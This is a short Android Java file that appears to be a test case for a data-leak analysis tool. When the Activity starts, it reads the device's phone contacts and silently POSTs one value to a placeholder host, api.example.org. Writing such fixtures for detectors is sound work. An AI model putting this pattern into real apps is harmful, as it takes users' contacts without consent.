// Apache HttpClient, as it was part of the platform.
package cases.sink_apache;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract;
import android.util.Log;
import java.io.IOException;

import org.apache.http.client.methods.HttpPost;
import org.apache.http.entity.StringEntity;
import org.apache.http.impl.client.DefaultHttpClient;

public final class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Cursor rows = getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null);
        rows.moveToFirst();
        try {
            HttpPost post = new HttpPost("https://api.example.org/v1/contacts");
            post.setEntity(new StringEntity(rows.getString(0)));
            new DefaultHttpClient().execute(post);
        } catch (IOException e) {
            Log.w("upload", "later");
        }
    }
}
